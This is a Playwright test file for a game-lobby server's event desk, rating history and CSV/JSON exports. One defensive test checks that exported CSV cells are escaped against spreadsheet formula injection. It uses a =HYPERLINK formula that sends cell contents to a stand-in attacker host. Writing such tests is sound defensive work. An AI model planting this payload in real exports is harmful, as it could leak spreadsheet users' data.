"""The director's desk after a close, and events browsed and exported by anyone."""

from __future__ import annotations

import csv as csv_module
import io
import json
from pathlib import Path
from typing import Any

import pytest
from playwright.async_api import Download, Page, expect
from testkit.browser import log_in
from testkit.clients import play
from testkit.constants import ADMIN, ADMIN_PASSWORD
from testkit.results import HEADER
from testkit.server_loop import LobbyServer

from server.api.results_file import parse_results
from server.api.spreadsheet import escape, unescape

pytestmark = pytest.mark.asyncio(loop_scope="session")

FIRST = """Club night,2026-03-07,alice,bob,412,389,,
Club night,2026-03-07,carol,dave,350,371,,
Club night,2026-03-07,alice,carol,398,402,,
Club night,2026-03-07,bob,dave,420,330,,
Club night,2026-03-07,erik,dave,300,310,,
"""


async def saved(download: Download, tmp: Path) -> str:
    path = tmp / download.suggested_filename
    await download.save_as(path)
    return path.read_text(encoding="utf-8")


async def test_a_cas_close_lists_everyone_who_moved_played_or_not(
        site: LobbyServer, page: Page) -> None:
    admin = await site.admin()
    first = await admin.call("event create", name="Club night", ladder="scrabble",
                             date="2026-03-07")
    await admin.call("event import", new=True, event=first["id"], csv=HEADER + "\n" + FIRST)
    await admin.call("event close", event=first["id"])
    await admin.close()
    await log_in(page, ADMIN, ADMIN_PASSWORD)
    await page.get_by_role("link", name="Director's desk").click()
    await page.fill("#event-create-form input[name=name]", "Second night")
    await page.select_option("#event-ladder", "scrabble")
    await page.click("#event-create-form button[type=submit]")
    # the director enters results once the page says the event is open (and has chosen it)
    await expect(page.locator("#event-create-form .feedback")).to_contain_text("Event #2")
    await expect(page.locator("#event-select")).to_have_value("2")
    form = page.locator("#event-result-form")
    for field, value in (("side_a", "bob"), ("side_b", "alice"), ("score_a", "450"),
                         ("score_b", "300")):
        await form.locator(f"input[name={field}]").fill(value)
    await form.locator("button[type=submit]").click()
    await expect(form.locator(".feedback")).to_contain_text("Recorded in event #2")
    await page.click("#event-close")
    await page.locator("#close-confirm").get_by_role("button", name="Yes, close #2 and rate it").click()
    await expect(page.locator("#desk-feedback")).to_contain_text("Event #2 closed; scrabble is rated")

    # who moved, by the history: the page lists each of them, marked played or not
    reader = await site.client()
    moved: dict[str, dict[str, Any]] = {}
    for name in ("alice", "bob", "carol", "dave", "erik"):
        for e in (await reader.call("history", name=name, ladder="scrabble"))["entries"]:
            if e["cause"] == {"event": 2}:
                moved[name] = e
    assert {"alice", "bob"} <= set(moved) and len(moved) > 2  # ČAS rescales the others too
    items = page.locator("#event-log li")
    await expect(items).to_have_count(len(moved))
    for name, e in moved.items():
        item = items.locator(f"xpath=self::li[@data-player='{name}']")
        played = name in ("alice", "bob")
        await expect(item).to_have_attribute("data-played", "true" if played else "false")
        await expect(item).to_contain_text(f"{e['before']} → {e['after']}")
        await expect(item.locator(".tag")).to_have_text(
            "played" if played else "moved by normalisation")
    await expect(page.locator("#desk-feedback")).to_have_text(
        f"Event #2 closed; scrabble is rated ({len(moved) - 2} players moved without playing).")
    # and why: the strength is explained right there
    await expect(page.locator("#event-log .rating-help")).to_contain_text(
        "a player can move without playing")


async def test_closed_events_browsed_and_exported(
        site: LobbyServer, page: Page, tmp_path: Path) -> None:
    admin = await site.admin()
    event = await admin.call("event create", name="Club night, \"spring\"", ladder="scrabble",
                             date="2026-03-07")
    rows = FIRST.replace("Club night", '"Club night, ""spring"""')
    await admin.call("event import", new=True, event=event["id"], csv=HEADER + "\n" + rows
                     + '"Club night, ""spring""",2026-03-07,erik,bob,0,10,,no:forfeit\n')
    wrong = (await admin.call("event result", new=True, event=event["id"], side_a="erik", side_b="alice",
                              score_a=1, score_b=2))["match"]
    await admin.call("void", match=wrong, reason="entered by mistake")
    await admin.call("event close", event=event["id"])
    shown = await admin.call("event show", event=event["id"])

    await page.select_option("#browse-event", str(event["id"]))
    body = page.locator("#browse-body")
    await expect(body.locator(".games-table tbody tr")).to_have_count(len(shown["games"]))
    await expect(body.locator(f".games-table tr[data-match='{wrong}']")).to_have_attribute(
        "data-status", "voided")
    standings = body.locator(".standings-table tbody tr")
    await expect(standings).to_have_count(len(shown["standings"]))
    top = shown["standings"][0]
    await expect(standings.first).to_have_attribute("data-player", top["player"])
    await expect(standings.first.locator("td")).to_have_text(
        [str(top[k]) for k in ("played", "won", "drawn", "lost")] + [f"{top['points']:g}"])

    # the results file: what was played, re-readable by `event import` and `matchlobby rate`
    async with page.expect_download() as info:
        await body.get_by_role("button", name="Results file (CSV)").click()
    csv = await saved(await info.value, tmp_path)
    assert csv.splitlines()[0] == HEADER
    parsed = parse_results(csv)
    finished = [g for g in shown["games"] if g["status"] == "finished"]
    assert [(r.event, r.game.side_a, r.game.side_b, r.game.score_a, r.game.score_b,
             r.game.played_on.isoformat(), r.game.unrated_reason) for r in parsed] == [
        (shown["name"], (g["side_a"],), (g["side_b"],), g["score_a"], g["score_b"], g["date"],
         g["unrated"]) for g in finished]
    async with page.expect_download() as info:
        await body.get_by_role("button", name="JSON").click()
    exported = json.loads(await saved(await info.value, tmp_path))
    assert exported == {k: v for k, v in shown.items() if k not in ("next", "from")}

    # a player's rating history, from the profile
    await page.goto(site.http_url + "#player=alice")
    await page.wait_for_selector("figure.history")
    history = await admin.call("history", name="alice")
    async with page.expect_download() as info:
        await page.locator("#profile .exports").get_by_role("button", name="CSV").click()
    table = list(csv_module.reader(io.StringIO(await saved(await info.value, tmp_path))))
    assert table[0][:8] == ["player", "ladder", "at", "before", "after", "change", "match",
                            "event"]  # and the story of each change (test_web_story.py)
    assert len(table) == 1 + len(history["entries"]) and history["entries"]

    def number(text: str) -> float | None:
        return None if text == "" else float(text)

    for cells, e in zip(table[1:], history["entries"], strict=True):
        assert cells[:3] == ["alice", e["ladder"], e["at"]]
        assert [number(c) for c in cells[3:8]] == [
            e["before"], e["after"], e["change"], e["cause"].get("match"), e["cause"].get("event")]
    async with page.expect_download() as info:
        await page.locator("#profile .exports").get_by_role("button", name="JSON").click()
    assert json.loads(await saved(await info.value, tmp_path)) == {
        "player": "alice", "entries": history["entries"]}


FORMULA_NAME = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def quoted(text: str) -> str:
    return '"' + text.replace('"', '""') + '"'


def inert(table: list[list[str]]) -> None:
    """No cell a spreadsheet would run (OWASP's list, after spaces), numbers apart."""
    for row in table:
        for c in row:
            if c.lstrip(" ").startswith(FORMULA_START):
                float(c)  # a negative number is a number, not a formula


async def test_exported_csv_files_escape_formulas_and_read_back(
        site: LobbyServer, page: Page, tmp_path: Path) -> None:
    admin = await site.admin()
    event = await admin.call("event create", name=FORMULA_NAME, ladder="scrabble",
                             date="2026-03-07")
    rows = [f"{quoted(FORMULA_NAME)},2026-03-07,-A1-B1x,bob,412,389,,",
            f"{quoted(FORMULA_NAME)},2026-03-07,-2,-A1-B1x,350,371,,",
            f"{quoted(FORMULA_NAME)},2026-03-07,bob,-2,398,402,,no:=1+1"]
    await admin.call("event import", new=True, event=event["id"], csv=HEADER + "\n" + "\n".join(rows))
    await admin.call("event close", event=event["id"])
    shown = await admin.call("event show", event=event["id"])

    await page.select_option("#browse-event", str(event["id"]))
    async with page.expect_download() as info:
        await page.locator("#browse-body").get_by_role("button", name="Results file (CSV)").click()
    text = await saved(await info.value, tmp_path)
    table = list(csv_module.reader(io.StringIO(text)))
    inert(table)
    assert [r[:4] for r in table[1:]] == [["'" + FORMULA_NAME, "2026-03-07", "'-A1-B1x", "bob"],
                                          ["'" + FORMULA_NAME, "2026-03-07", "'-2", "'-A1-B1x"],
                                          ["'" + FORMULA_NAME, "2026-03-07", "bob", "'-2"]]
    assert table[3][7] == "no:=1+1"  # starts with "n": text as it is
    # read back as written, by the parser `event import` and `matchlobby rate` share ...
    assert [(r.event, r.game.side_a, r.game.side_b) for r in parse_results(text)] == [
        (FORMULA_NAME, ("-A1-B1x",), ("bob",)), (FORMULA_NAME, ("-2",), ("-A1-B1x",)),
        (FORMULA_NAME, ("bob",), ("-2",))]
    # ... and by the lobby: the file imported into another event of that name
    again = await admin.call("event create", name=FORMULA_NAME, ladder="scrabble",
                             date="2026-03-07")
    assert (await admin.call("event import", event=again["id"], csv=text))["imported"] == 3
    copy = await admin.call("event show", event=again["id"])
    assert [(g["side_a"], g["side_b"], g["score_a"], g["score_b"], g["unrated"])
            for g in copy["games"]] == [(g["side_a"], g["side_b"], g["score_a"], g["score_b"],
                                         g["unrated"]) for g in shown["games"]]

    # the rating history of a player whose name starts like a formula (with a loss in it)
    night = await admin.call("event create", name="Night", ladder="backgammon")
    await admin.call("event result", new=True, event=night["id"], side_a="bob", side_b="-A1-B1x",
                     score_a=1, score_b=0)
    await page.goto(site.http_url + "#player=-A1-B1x")
    await page.wait_for_selector("figure.history")
    history = (await admin.call("history", name="-A1-B1x"))["entries"]
    async with page.expect_download() as info:
        await page.locator("#profile .exports").get_by_role("button", name="CSV").click()
    table = list(csv_module.reader(io.StringIO(await saved(await info.value, tmp_path))))
    inert(table)
    assert len(table) == 1 + len(history) and any((e["change"] or 0) < 0 for e in history)
    for cells, e in zip(table[1:], history, strict=True):
        assert cells[:3] == ["'-A1-B1x", e["ladder"], e["at"]]
        assert [None if c == "" else float(c) for c in cells[3:6]] == [
            e["before"], e["after"], e["change"]]


async def test_the_page_escapes_cells_as_the_results_reader_expects(page: Page) -> None:
    """The page's CSV cell (clients/web/js/exports.js) and server.api.spreadsheet: one rule."""
    texts = ["=1+1", "-A1-B1x", "'=1", "''=1", "' -x", "'a", "''", "'", " =1", "\t=1", "@", "-",
             "plain", "", "=HYPERLINK(\"https://x.example/\",\"x\")", "a,b", "-2"]
    cells = await page.evaluate("""async (texts) => {
        const { cell } = await import("./js/exports.js");
        return [texts.map((t) => cell(t)), [cell(-2.5), cell(0), cell(null)]];
    }""", texts)
    for text, written in zip(texts, cells[0], strict=True):
        [read] = next(csv_module.reader([written])) or [""]
        assert read == escape(text), (text, written)
        assert unescape(read) == text
    assert cells[1] == ["-2.5", "0", ""]  # numbers stay numbers


async def test_live_play_shows_win_loss_per_ladder_on_the_profile(
        site: LobbyServer, page: Page) -> None:
    alice, bob = await site.player("alice"), await site.player("bob")
    for winner, loser in ((alice, bob), (alice, bob), (bob, alice)):
        await play(winner, loser)
    admin = await site.admin()
    event = await admin.call("event create", name="Draws", ladder="scrabble")
    await admin.call("event result", new=True, event=event["id"], side_a="alice", side_b="bob",
                     score_a=5, score_b=5)
    await admin.call("event close", event=event["id"])
    await page.goto(site.http_url + "#player=alice")
    rows = page.locator(".ratings-table tbody tr")
    await expect(rows.locator("xpath=self::tr[@data-ladder='backgammon'] "
                              "/td[@data-key='record']")).to_have_text("2–1")
    await expect(rows.locator("xpath=self::tr[@data-ladder='scrabble'] "
                              "/td[@data-key='record']")).to_have_text("0–0, 1 drawn")
    record = (await admin.call("whois", name="alice"))["record"]
    assert record == {"backgammon": {"won": 2, "lost": 1, "drawn": 0},
                      "scrabble": {"won": 0, "lost": 0, "drawn": 1}}
